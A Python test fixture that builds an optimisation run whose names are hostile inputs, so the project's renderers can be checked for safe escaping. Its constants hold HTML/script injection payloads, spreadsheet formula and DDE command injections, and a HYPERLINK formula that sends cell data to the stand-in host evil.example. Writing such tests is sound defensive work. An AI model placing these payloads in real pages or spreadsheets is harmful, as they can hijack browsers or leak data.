"""A run whose every name is an attempt: markup, formulas, other scripts of writing, great length."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from cpm_opt.runs import RunRecord, read_run
from tests.handmade import plan, portfolio, written

TAKEN = "taken over"
SCRIPT = f"<script>document.title='{TAKEN}'</script>"
IMAGE = f'"><img src=x onerror="document.title=\'{TAKEN}\'">'
END = f"</script></style></title><script>document.title='{TAKEN}'</script><!--"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "=cmd|' /C calc'!A0"
RIGHT_TO_LEFT = "\u0639\u0645\u0644\u0627\u0621 1"
LONG = "long name " * 20
MARKS = ("+1+1", "-2+3", "@SUM(A1:A9)", "*", ">5", "{b|bold} {c}", "&lt;b&gt;", "__proto__")
NAMES = (SCRIPT, IMAGE, END, LINK, COMMAND, RIGHT_TO_LEFT, LONG, "caf\u00e9 \U0001f600", *MARKS)


def hostile_run(results: Path) -> RunRecord:
    """A written run that bears `NAMES` as its segments, groups, levers, options, resources, rules, units and title."""
    p = portfolio((SCRIPT, LINK))
    service, tariff = p.levers
    named = replace(
        p,
        title=END,
        groupings={IMAGE: (MARKS[0], MARKS[1])},
        levers=(
            replace(service, name=COMMAND, groups=(SCRIPT, LINK)),
            replace(tariff, name=MARKS[7], groups=(SCRIPT, LINK)),
        ),
        options=(RIGHT_TO_LEFT, LONG, MARKS[2], MARKS[3]),
        resources=replace(p.resources, names=(IMAGE,), units=(MARKS[4],)),
    )
    made = plan(named)
    prices = {("capacity", IMAGE, period): price for (_, _, period), price in made.shadow_prices.items()}
    done = replace(made, shadow_prices=prices)
    path = written(results, done)
    # Text that comes from estimation and warnings passes through run.json alone.
    text = (path / "run.json").read_text(encoding="utf-8")
    path.joinpath("run.json").write_text(
        text.replace('"notes": []', '"notes": ["caf\u00e9 \U0001f600", "{b|bold} {c}", "&lt;b&gt;"]'),
        encoding="utf-8",
    )
    return read_run(path)
